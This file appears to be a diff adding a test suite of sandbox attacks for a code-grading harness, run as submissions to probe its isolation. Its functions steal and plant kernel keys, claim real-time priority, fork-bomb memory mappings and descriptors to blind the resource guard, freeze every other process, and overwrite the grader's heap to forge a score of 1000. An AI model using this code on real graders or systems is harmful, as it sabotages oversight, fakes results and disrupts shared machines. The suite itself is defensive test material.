@@ -1,0 +1,167 @@
+"""Attacks by what the kernel keeps beside files and processes: keys, priorities, mappings, descriptors, signals."""
+
+from grading.attacks.attack import of_answer, of_notebook
+
+
+def reads_the_graders_keys_and_leaves_one():
+    """Look for keys of the kernel's in what processes inherit, and leave one for the next submission."""
+    import ctypes
+    import platform
+
+    add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
+    libc, search, session = ctypes.CDLL(None), 10, -3
+    for name in (b"shardlab-grader", b"shardlab-left"):
+        if libc.syscall(control, search, session, b"user", name, 0) > 0:
+            print("GOT the key", name)
+    if libc.syscall(add, b"user", b"shardlab-left", b"x", 1, session) > 0:
+        print("GOT to leave a key")
+    try:
+        with open("/proc/keys") as names:
+            print("GOT names of keys", names.read(100))
+    except OSError:
+        pass
+
+
+def takes_the_machine_for_itself():
+    """Ask for a real-time priority, for a better one, to be spared when memory runs out, and for another time of day."""
+    import os
+    import time
+
+    tries = [
+        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
+        lambda: os.nice(-5),
+        lambda: time.clock_settime(time.CLOCK_REALTIME, 0.0),
+    ]
+    for attempt in tries:
+        try:
+            attempt()
+            print("GOT", attempt)
+        except OSError:
+            pass
+    with open("/proc/self/oom_score_adj", "w") as score:
+        score.write("0")
+    time.sleep(3)
+    with open("/proc/self/oom_score_adj") as score:
+        if int(score.read()) < 1000:
+            print("GOT to be spared when memory runs out")
+
+
+def blinds_the_guard_with_mappings():
+    """Have so many small mappings that whoever adds up memory takes minutes, and eat memory meanwhile."""
+    import mmap
+    import os
+    import time
+
+    for _ in range(60):
+        if os.fork() == 0:
+            kept = []
+            try:
+                while True:
+                    kept.append(mmap.mmap(-1, 4096, flags=mmap.MAP_SHARED))
+            except OSError:
+                time.sleep(600)
+    eaten = []
+    began = time.monotonic()
+    while time.monotonic() - began < 15:
+        eaten.append(bytearray(b"x") * (1 << 20))
+        time.sleep(0.01)
+    print("GOT", len(eaten), "MiB behind the guard's back")
+
+
+def blinds_the_guard_with_descriptors():
+    import os
+    import time
+
+    for _ in range(150):
+        if os.fork() == 0:
+            try:
+                while True:
+                    os.dup(0)
+            except OSError:
+                time.sleep(600)
+    time.sleep(15)
+    if len(os.listdir("/proc/self/fd")) > 1 << 16:
+        print("GOT more descriptors than anybody can count")
+
+
+def stops_everything_around_it():
+    """Stop all other processes of the box: they are not dead, and do not answer."""
+    import os
+    import signal
+    from contextlib import suppress
+
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        if int(pid) not in (1, os.getpid()):
+            with suppress(OSError):
+                os.kill(int(pid), signal.SIGSTOP)
+
+
+def stops_everything_around_the_rank(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
+    import os
+    import signal
+    from contextlib import suppress
+
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        if int(pid) not in (1, os.getpid()):
+            with suppress(OSError):
+                os.kill(int(pid), signal.SIGSTOP)
+    return [1] * len(sizes_bytes)
+
+
+def writes_into_the_processes_around_it():
+    """Overwrite strings in the memory of the notebook's host, which makes the reply."""
+    import os
+
+    words = b"execution_count"
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        if int(pid) == os.getpid():
+            continue
+        try:
+            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
+                for line in maps:
+                    if "[heap]" in line:
+                        begin, end = (int(n, 16) for n in line.split()[0].split("-"))
+                        memory.seek(begin)
+                        found = memory.read(end - begin)
+                        at = found.find(words)
+                        while at >= 0:
+                            memory.seek(begin + at)
+                            memory.write(b"points, 1000, x")
+                            at = found.find(words, at + 1)
+        except OSError:
+            pass
+
+
+def leaves_state_for_the_next_box():
+    """Leave marks where two boxes might meet, and look for those of an earlier one."""
+    import fcntl
+    import os
+    import sys
+
+    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue"):
+        try:
+            if os.path.exists(f"{folder}/shardlab-mark"):
+                print("GOT a mark in", folder)
+            with open(f"{folder}/shardlab-mark", "w") as mark:
+                mark.write("x")
+        except OSError:
+            pass
+    with open(sys.executable) as shared:  # a lock needs no permission to write
+        try:
+            fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB)
+        except OSError:
+            print("GOT a lock of another box")
+
+
+ATTACKS = [
+    *of_notebook(
+        reads_the_graders_keys_and_leaves_one,
+        takes_the_machine_for_itself,
+        blinds_the_guard_with_mappings,
+        blinds_the_guard_with_descriptors,
+        stops_everything_around_it,
+        writes_into_the_processes_around_it,
+        leaves_state_for_the_next_box,
+    ),
+    *of_answer(stops_everything_around_the_rank),
+]
